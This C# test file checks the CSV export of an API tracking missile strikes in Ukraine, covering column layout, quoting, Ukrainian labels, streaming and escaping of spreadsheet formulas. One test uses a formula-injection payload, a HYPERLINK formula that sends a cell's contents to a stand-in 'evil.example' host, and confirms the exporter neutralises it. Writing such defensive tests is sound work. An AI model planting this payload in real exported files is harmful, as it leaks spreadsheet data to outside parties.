using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using MissileTracker.Tests.Infrastructure;
using MissileTracker.Web.Geography;
using MissileTracker.Web.Publishing;

namespace MissileTracker.Tests.Strikes;

/// <summary>The CSV export, read back with a real CSV parser (CsvHelper's reader).</summary>
public sealed class StrikeCsvTests : IDisposable
{
    /// <summary>The documented column set (docs/api.md); changing it breaks researchers' scripts.</summary>
    private static readonly string[] DocumentedColumns =
    [
        "id", "date", "datePrecision", "dateText", "timeOfDay", "settlement", "district", "oblast", "oblastName",
        "latitude", "longitude", "locationPrecision", "missileType", "missileTypeName", "originCountry", "originStatus",
        "missilesLaunched", "missilesIntercepted", "killed", "injured", "summary", "officialsQuoted", "sourceUrls",
        "createdAt", "updatedAt", "endDate", "endTime",
        "missilesLaunchedQualifier", "missilesLaunchedHigh", "missilesLaunchedWords",
        "missilesInterceptedQualifier", "missilesInterceptedHigh", "missilesInterceptedWords",
        "killedQualifier", "killedHigh", "killedWords",
        "injuredQualifier", "injuredHigh", "injuredWords",
    ];

    private readonly TrackerApp _app = new();
    private readonly HttpClient _client;

    public StrikeCsvTests() => _client = _app.CreateClient();

    public void Dispose() => _app.Dispose();

    private static (IReadOnlyList<string> Header, List<Dictionary<string, string>> Rows) Parse(string csv) => CsvText.Parse(csv);

    [Fact]
    public async Task Exports_every_matching_strike_with_the_documented_columns()
    {
        var response = await _client.GetAsync("/api/v1/strikes.csv");
        var csv = await response.Content.ReadAsStringAsync();

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.Should().Be("text/csv");
        response.Content.Headers.ContentType.CharSet.Should().Be("utf-8");
        csv.Should().StartWith(string.Join(',', DocumentedColumns) + "\r\n", "the header row comes first, CRLF-terminated");
        var (header, rows) = Parse(csv);
        header.Should().Equal(DocumentedColumns);
        rows.Should().HaveCount(3);
        var kharkiv = rows.Single(r => r["settlement"] == "Kharkiv");
        kharkiv["date"].Should().Be("2024-01-06");
        kharkiv["oblast"].Should().Be("Kharkiv");
        kharkiv["latitude"].Should().Be("49.9935");
        kharkiv["longitude"].Should().Be("36.2304");
        kharkiv["officialsQuoted"].Should().Be("John Kirby");
        kharkiv["missileType"].Should().Be("dprk-ballistic-unspecified");
        kharkiv["killed"].Should().BeEmpty("an unknown figure is an empty cell, not 0");
        DateTime.Parse(kharkiv["updatedAt"], CultureInfo.InvariantCulture, DateTimeStyles.RoundtripKind).Kind.Should().Be(DateTimeKind.Utc);
    }

    [Fact]
    public async Task Text_with_commas_quotes_and_line_breaks_and_source_urls_survive_the_round_trip()
    {
        const string summary = "Two missiles, \"KN-23\" per debris;\nschool and = formula-like text";
        var strike = Evidence.Strike(new DateOnly(2024, 5, 1), Oblast.Kharkiv, "Kharkiv, city", summary: summary, killed: 2, injured: 5);
        await _app.AddRangeAsync(
            Evidence.Says(Evidence.Official("Syniehubov"), strike, Evidence.Report("One", "Reuters", "https://www.reuters.com/world/a?x=1&y=2")),
            Evidence.Says(Evidence.Official("Terekhov"), strike, Evidence.Report("Two", "UNN", "https://unn.ua/en/news/b")));

        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-01"));

        var row = rows.Should().ContainSingle().Subject;
        row["summary"].Should().Be(summary);
        row["settlement"].Should().Be("Kharkiv, city");
        row["killed"].Should().Be("2");
        row["injured"].Should().Be("5");
        row["officialsQuoted"].Split("; ").Should().BeEquivalentTo("Syniehubov", "Terekhov");
        row["sourceUrls"].Split(' ').Should().BeEquivalentTo("https://www.reuters.com/world/a?x=1&y=2", "https://unn.ua/en/news/b");
    }

    /// <summary>
    /// The export aggregates each strike's officials and URLs in its one query and splits them again: what a reader may see,
    /// each once, in ordinal order, whatever characters the names and URLs hold.
    /// </summary>
    [Fact]
    public async Task Officials_and_urls_are_listed_once_in_ordinal_order_leaving_out_drafts_deletions_and_reports_without_a_url()
    {
        var strike = Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, "Kharkiv");
        var twice = Evidence.Official("Zoe");
        var draft = Evidence.Says(Evidence.Official("Draft Speaker"), strike, Evidence.Report("Draft", url: "https://example.org/draft", publication: PublicationStatus.Draft));
        draft.Status = PublicationStatus.Draft;
        var deletedReport = Evidence.Report("Gone", url: "https://example.org/deleted");
        deletedReport.DeletedAt = DateTime.UtcNow;
        var deleted = Evidence.Says(Evidence.Official("Deleted Speaker"), strike, deletedReport);
        deleted.DeletedAt = DateTime.UtcNow;
        await _app.AddRangeAsync(
            Evidence.Says(twice, strike, Evidence.Report("A", url: "https://example.org/z")),
            Evidence.Says(twice, strike, Evidence.Report("B", url: "https://example.org/a b")),
            Evidence.Says(Evidence.Official("zoe"), strike, Evidence.Report("C", url: "https://example.org/x\u001fy")),
            Evidence.Says(Evidence.Official("Émile"), strike, Evidence.Report("D")),
            // The aggregate's separators are control characters; a name or URL holding them must not be split.
            Evidence.Says(Evidence.Official("Anna; Maria\u001f\u001e"), strike, Evidence.Report("E", url: "https://example.org/e\u001f\u001ef")),
            draft,
            deleted);

        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02&escapeFormulas=false"));

        var row = rows.Should().ContainSingle().Subject;
        row["officialsQuoted"].Should().Be("Anna; Maria\u001f\u001e; Zoe; zoe; Émile");
        row["sourceUrls"].Should().Be("https://example.org/a%20b https://example.org/e%1F%1Ef https://example.org/x%1Fy https://example.org/z");
    }

    public static TheoryData<string> FormulaTriggers => new() { "=", "+", "-", "@", "\t", "\r" };

    [Theory]
    [MemberData(nameof(FormulaTriggers))]
    public async Task A_text_cell_starting_with_a_formula_character_gets_a_leading_apostrophe_but_numbers_stay_numbers(string trigger)
    {
        var summary = trigger + "HYPERLINK(\"https://evil.example/?\"&A1,\"details\")";
        await _app.AddAsync(Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, trigger + "Kharkiv", summary: summary, at: (49.9935, -0.5)));

        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02"));

        var row = rows.Should().ContainSingle().Subject;
        row["summary"].Should().Be("'" + summary);
        row["settlement"].Should().Be("'" + trigger + "Kharkiv");
        row["longitude"].Should().Be("-0.5", "a negative number is a number, not a formula");
        row["dateText"].Should().Be("2 May 2024", "cells that start with anything else are unchanged");
    }

    [Fact]
    public async Task Escape_formulas_false_writes_every_cell_as_stored()
    {
        await _app.AddAsync(Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, "=1+1", summary: "@SUM(A1:A2)\r\n-2"));

        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02&escapeFormulas=false"));
        var (_, escaped) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02&escapeFormulas=true"));

        rows.Should().ContainSingle().Which["settlement"].Should().Be("=1+1");
        rows[0]["summary"].Should().Be("@SUM(A1:A2)\r\n-2");
        escaped.Should().ContainSingle().Which["settlement"].Should().Be("'=1+1");
    }

    [Fact]
    public async Task Lang_uk_writes_the_label_columns_in_Ukrainian_and_leaves_codes_numbers_and_text_as_they_are()
    {
        var (_, english) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv"));
        var response = await _client.GetAsync("/api/v1/strikes.csv?lang=uk");
        var (header, ukrainian) = Parse(await response.Content.ReadAsStringAsync());

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        header.Should().Equal(DocumentedColumns, "the columns are the same in every language");
        var en = english.Single(r => r["settlement"] == "Kharkiv");
        var uk = ukrainian.Single(r => r["settlement"] == "Kharkiv");
        en["oblastName"].Should().Be("Kharkiv Oblast");
        uk["oblastName"].Should().Be("Харківська область");
        en["missileTypeName"].Should().Be("North Korean ballistic missile (type not stated)");
        uk["missileTypeName"].Should().Be("Північнокорейська балістична ракета (тип не вказано)");
        uk["dateText"].Should().Contain("2024").And.NotContain("Jan");
        foreach (var column in DocumentedColumns.Except(["oblastName", "missileTypeName", "dateText"]))
        {
            uk[column].Should().Be(en[column], $"{column} is a code, a number or the editors' text");
        }
        (await _client.GetStringAsync("/api/v1/strikes.csv?lang=en")).Should().Be(await _client.GetStringAsync("/api/v1/strikes.csv"));
    }

    [Fact]
    public async Task An_unknown_lang_gets_400_naming_it()
    {
        var bad = await _client.GetAsync("/api/v1/strikes.csv?lang=de");

        bad.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await bad.ReadJsonAsync<Microsoft.AspNetCore.Mvc.ValidationProblemDetails>()).Errors.Should().ContainKey("lang");
    }

    [Fact]
    public async Task The_list_in_csv_is_escaped_too_and_a_bad_escape_formulas_value_gets_400()
    {
        await _app.AddAsync(Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, "=1+1"));
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/strikes?from=2024-05-02");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));

        var (_, rows) = Parse(await (await _client.SendAsync(request)).Content.ReadAsStringAsync());
        var bad = await _client.GetAsync("/api/v1/strikes.csv?escapeFormulas=maybe");

        rows.Should().ContainSingle().Which["settlement"].Should().Be("'=1+1");
        bad.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await bad.ReadJsonAsync<Microsoft.AspNetCore.Mvc.ValidationProblemDetails>()).Errors.Should().ContainKey("escapeFormulas");
    }

    [Fact]
    public async Task Filters_and_sort_apply_to_the_export()
    {
        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?sort=date&from=2024-01-01"));

        rows.Select(r => r["date"]).Should().Equal("2024-01-02", "2024-01-06");
    }

    [Fact]
    public async Task Accept_text_csv_on_the_list_returns_the_same_export()
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/strikes?oblast=Kharkiv&pageSize=1&page=1");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));

        var response = await _client.SendAsync(request);
        var csv = await response.Content.ReadAsStringAsync();

        response.Content.Headers.ContentType!.MediaType.Should().Be("text/csv");
        response.Headers.Vary.Should().Contain("Accept");
        csv.Should().Be(await _client.GetStringAsync("/api/v1/strikes.csv?oblast=Kharkiv"));
    }

    [Fact]
    public async Task Json_stays_the_default_when_csv_is_not_preferred()
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/strikes");
        request.Headers.Accept.ParseAdd("application/json, text/csv;q=0.5");

        var response = await _client.SendAsync(request);

        response.Content.Headers.ContentType!.MediaType.Should().Be("application/json");
    }

    [Fact]
    public async Task Large_exports_stream_every_row()
    {
        var strikes = Enumerable.Range(0, 1500).Select(i => (object)Evidence.Strike(new DateOnly(2022, 1, 1).AddDays(i), Oblast.Donetsk, summary: $"Strike {i}, test")).ToArray();
        await _app.AddRangeAsync(strikes);

        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?oblast=Donetsk&sort=date"));

        rows.Should().HaveCount(1500);
        rows.Select(r => r["summary"]).Should().Equal(Enumerable.Range(0, 1500).Select(i => $"Strike {i}, test"));
    }

    [Fact]
    public async Task Bad_filters_get_400_problem_details()
    {
        var response = await _client.GetAsync("/api/v1/strikes.csv?oblast=Atlantis");

        response.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        response.Content.Headers.ContentType!.MediaType.Should().Be("application/problem+json");
    }
}
